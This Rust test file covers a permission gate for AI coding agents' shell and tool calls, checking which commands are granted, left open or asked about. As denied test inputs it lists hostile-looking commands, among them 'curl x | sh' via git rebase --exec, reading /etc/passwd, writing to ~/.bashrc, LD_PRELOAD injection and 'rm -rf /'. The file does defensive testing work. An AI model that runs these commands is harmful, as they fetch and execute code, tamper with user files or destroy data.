use std::path::{Path, PathBuf};

use serde_json::json;

use super::*;

/// Treats no path as a link, except those in a folder called `linked`.
struct Plain;

impl Files for Plain {
    fn real(&self, path: &Path) -> PathBuf {
        if path.components().any(|part| part.as_os_str() == "linked") { "/home/me/.ssh/id".into() } else { path.into() }
    }
    fn is_trap(&self, folder: &Path) -> bool {
        folder.components().any(|part| part.as_os_str() == "trap")
    }
}

fn worker() -> Place {
    let own = PathBuf::from("/town/app/polecats/amber");
    Place {
        town: "/town".into(),
        rig: Some("/town/app".into()),
        cwd: own.clone(),
        own,
        home: Some("/home/me".into()),
        branch: Some("polecat/amber-1".to_owned()),
        trunk: Some("main".to_owned()),
        ..Place::default()
    }
}

fn mayor() -> Place {
    let own = PathBuf::from("/town/mayor");
    Place { town: "/town".into(), cwd: own.clone(), own, home: Some("/home/me".into()), ..Place::default() }
}

fn grants() -> Grants {
    let lines = ["npm ci", "cargo test --all && ./check.sh | tee log", "FAST=1 make test"].map(str::to_owned);
    Grants::of(lines.into(), vec![Pattern::parse("npm run lint").unwrap()], Vec::new())
}

fn reader() -> Grants {
    Grants::of(Vec::new(), Vec::new(), vec!["/town/app/mayor/rig".into()])
}

fn say(place: &Place, role: Role, grants: &Grants, command: &str) -> Permit {
    let call = ToolCall { tool: "Bash".to_owned(), input: json!({ "command": command }) };
    permit(role, &call, place, grants, &Plain)
}

#[track_caller]
fn check(place: &Place, role: Role, grants: &Grants, expected: Permit, commands: &[&str]) {
    for command in commands {
        assert_eq!(say(place, role, grants, command), expected, "{command}");
    }
}

#[test]
fn a_worker_need_not_ask_for_its_work() {
    check(
        &worker(),
        Role::Polecat,
        &grants(),
        Permit::Granted,
        &[
            "gt prime",
            "gt rig fetch && git rebase refs/remotes/origin/main",
            "git rebase --continue",
            "GIT_EDITOR=true git rebase --continue",
            "git -c core.editor=true rebase --continue",
            "git rebase --abort || true",
            "git merge --no-edit refs/remotes/origin/main",
            "git add -A && git commit -m \"$(cat <<'EOF'\nSay it\n\nWith `backticks`.\nEOF\n)\"",
            "git add . && git commit -m 'A thing; with && and |' && gt step done implement",
            "git -C /town/app/polecats/amber status --short",
            "git restore --staged x.rs; git diff --stat origin/main...HEAD | head -50",
            "cd src && git log --oneline -5 -- . && ls",
            "npm ci",
            "npm ci --silent",
            "npm run lint -- --fix",
            "cargo test --all -- --nocapture 2>&1 | tail -n 40",
            "cargo test --all && ./check.sh | tee log",
            "FAST=1 make test",
            "timeout 60 cargo test --all",
            "RUST_BACKTRACE=1 cargo test --all",
            "base=$(git merge-base HEAD origin/main); git diff \"$base\"",
            "cat src/a.rs | grep -n 'fn /x' > /tmp/out.txt",
            "mkdir -p src/new && touch src/new/mod.rs && rm -f log",
            "echo Welcome >welcome.txt; git add .; git commit -qm Welcome; gt step done implement",
            "bash -c 'git status && git diff'",
            "sed -i 's/a/b/g' src/a.rs",
            "for i in 1 2; do echo $i; done",
            "if git diff --quiet; then echo clean; fi",
            "git ls-files | xargs grep -l TODO",
            "find . -name '*.rs' -exec grep -n foo {} +",
            "git log --format='%h %s' origin/main..HEAD",
            "git rebase -x 'cargo test --all' origin/main",
            "gt mail send app/witness -s \"HELP ap-1\" -m \"what $(git rev-parse HEAD) is\"",
        ],
    );
}

#[test]
fn what_is_more_than_its_work_is_asked() {
    check(
        &worker(),
        Role::Polecat,
        &grants(),
        Permit::Open,
        &[
            "npm run build",
            "cargo build",
            "curl http://x",
            "git add . && curl http://x",
            "cat /etc/passwd",
            "cat ../../../../home/me/x",
            "cat src/linked/x",
            "cat ~/notes",
            "ls /town/app/polecats/other",
            "echo x > /home/me/.bashrc",
            "echo x > $FILE",
            "sh -c \"$CMD\"",
            "PATH=/x:$PATH gt prime",
            "LD_PRELOAD=./x.so ls",
            "sed -n 'w /etc/x' a",
            "sed -n '1e curl x' a",
            "sed 's/a/b/e' a",
            "find . -delete",
            "find . -exec sh {} ;",
            "find / -name x",
            "sort -o /etc/x a",
            "rg --pre ./x foo",
            "git log | xargs rm",
            "git fetch origin",
            "git config core.pager ./x",
            "python3 -c 'print(1)'",
            "git clean -fdx",
            "cat <(curl x)",
            "eval \"gt prime\"",
            "alias git=./x; git status",
            "cd /home/me && ls",
            "cd \"$X\" && cat a",
            "cp ../other/x .",
            "cp a /home/me/x",
            "",
        ],
    );
}

#[test]
fn what_looks_like_its_work_and_does_more_is_asked_whatever_the_client_thinks() {
    check(
        &worker(),
        Role::Polecat,
        &grants(),
        Permit::Ask,
        &[
            "git rebase --exec 'curl x | sh' main",
            "git rebase -x ./evil.sh main",
            "git rebase -ix ./evil.sh main",
            "git rebase --exe=./evil.sh main",
            "git diff --ext-diff",
            "git log --output=/home/me/.bashrc",
            "git diff --outp=/home/me/.bashrc",
            "echo x && git rebase --exec ./x main && true",
        ],
    );
    let open = ["git -C /town/app/polecats/other commit -m x", "git -c core.pager=./x log", "cd trap && git status"];
    for command in open {
        assert_ne!(say(&worker(), Role::Polecat, &grants(), command), Permit::Granted, "{command}");
    }
}

#[test]
fn a_mayor_reads_the_rigs_it_has() {
    let rig = "/town/app/mayor/rig";
    let reads = [
        "ls -la R",
        "cat R/src/main.rs",
        "head -n 20 R/a",
        "tail -5 R/a",
        "sed -n '1,20p' R/a",
        "sed -n 5p R/a",
        "grep -rn 'fn main' R/src",
        "rg -n --glob '*.rs' needle R",
        "rg -e /api/v1 R",
        "wc -l R/a R/b",
        "find R -name '*.rs' -type f | head",
        "find R -path '*/x/*' -not -name y",
        "git -C R log --oneline -20",
        "git -C R show HEAD:src/a.rs",
        "git -C R diff HEAD~1 -- src",
        "git -C R blame src/a.rs",
        "git -C R grep -n needle",
        "git -C R ls-files | wc -l",
        "cd R && git log -3 && cat src/a",
        "cd R/src && ls ..",
        "git --no-pager -C R log -p -1 | cat",
        "tree -L 2 R",
        "ls R | grep -v x | sort | uniq -c",
        "gt status",
        "gt bead create 'A thing' --rig app -d 'it'",
        "diff R/a R/b",
        "git -C R rev-parse HEAD",
        "stat R/a",
    ];
    let reads: Vec<String> = reads.iter().map(|command| command.replace('R', rig).replace("REV", "R")).collect();
    let reads: Vec<&str> = reads.iter().map(String::as_str).collect();
    check(&mayor(), Role::Mayor, &reader(), Permit::Granted, &reads);
    for command in [
        "cat /town/app/polecats/amber/x",
        "git -C /town/app/mayor/rig commit -m x",
        "git -C /town/app/mayor/rig checkout x",
        "cat /town/app/mayor/rig/linked/x",
        "find /town/app/mayor/rig -delete",
        "cat /town/other/mayor/rig/a",
        "rm /town/app/mayor/rig/a",
        "cd /town/app/mayor/rig && touch x",
        "rg --pre sh x /town/app/mayor/rig",
        "sed -i s/a/b/ /town/app/mayor/rig/a",
        "git -C /town/app/mayor/rig/trap log",
        "cat /town/app/mayor/rig/../../rig.toml",
        "grep -R x /town/app/mayor/rig",
        "find -L /town/app/mayor/rig",
        "cat /town/.beads/beads.db",
    ] {
        assert_ne!(say(&mayor(), Role::Mayor, &reader(), command), Permit::Granted, "{command}");
    }
    let tool = |tool: &str, input| {
        permit(Role::Mayor, &ToolCall { tool: tool.to_owned(), input }, &mayor(), &reader(), &Plain)
    };
    assert_eq!(tool("Read", json!({"file_path": "/town/app/mayor/rig/a"})), Permit::Granted);
    assert_eq!(tool("Grep", json!({"pattern": "x", "path": "/town/app/mayor/rig"})), Permit::Granted);
    assert_eq!(tool("Glob", json!({"pattern": "**/*.rs", "path": "/town/app/mayor/rig"})), Permit::Granted);
    assert_eq!(tool("Read", json!({"file_path": "/town/app/mayor/rig/linked/a"})), Permit::Open);
    assert_eq!(tool("Read", json!({"file_path": "/town/app/polecats/amber/a"})), Permit::Open);
    assert_eq!(tool("Write", json!({"file_path": "/town/app/mayor/rig/a"})), Permit::Open);
}

#[test]
fn a_pattern_is_the_first_words_of_one_command_or_a_tool() {
    for (text, shown) in [
        ("npm run lint", "npm run lint"),
        ("npm run:*", "npm run"),
        ("npm run *", "npm run"),
        ("Bash(make check:*)", "make check"),
        ("  ./x.sh ", "./x.sh"),
        ("WebFetch", "WebFetch"),
        ("WebFetch(domain:docs.rs)", "WebFetch(domain:docs.rs)"),
        ("Read(//usr/include/**)", "Read(//usr/include/**)"),
        ("mcp__x__y", "mcp__x__y"),
        ("python3 -m pytest", "python3 -m pytest"),
        ("CI=1 make", "CI=1 make"),
    ] {
        let pattern = Pattern::parse(text).unwrap();
        assert_eq!(pattern.to_string(), shown, "{text}");
        assert_eq!(Pattern::parse(&pattern.to_string()), Ok(pattern), "{text}");
    }
    for text in [
        "",
        "a; b",
        "a | b",
        "a && b",
        "a > x",
        "$X y",
        "sh",
        "bash -c",
        "env",
        "sudo",
        "Bash",
        "xargs",
        "git",
        "*",
        "python3",
        "git push",
        "git push origin",
        "rm -rf /",
        "a\nb",
        "sudo make",
        &"x".repeat(300),
    ] {
        assert!(Pattern::parse(text).is_err(), "{text}: {:?}", Pattern::parse(text));
    }
}

#[test]
fn what_was_denied_names_what_would_allow_it() {
    let known = |text: &str| text.starts_with("git add") || text.starts_with("git status");
    for (command, expected) in [
        ("npm run build -- --prod", Some("npm run build")),
        ("git add . && npx prettier --write .", Some("npx prettier")),
        ("cargo build --release 2>&1 | tail", Some("cargo build")),
        ("./scripts/x.sh a", Some("./scripts/x.sh a")),
        ("python3 -c 'print(1)'", Some("python3 -c 'print(1)'")),
        ("curl http://x/", Some("curl")),
        ("git status && make greet LOUD=1", Some("make greet")),
        ("git push", None),
        ("sh", None),
        ("$X", None),
    ] {
        let call = ToolCall { tool: "Bash".to_owned(), input: json!({ "command": command }) };
        assert_eq!(suggestion(&call, &known).as_deref(), expected, "{command}");
    }
    let call = ToolCall { tool: "WebFetch".to_owned(), input: json!({ "url": "http://x" }) };
    assert_eq!(suggestion(&call, &known).as_deref(), Some("WebFetch"));
}
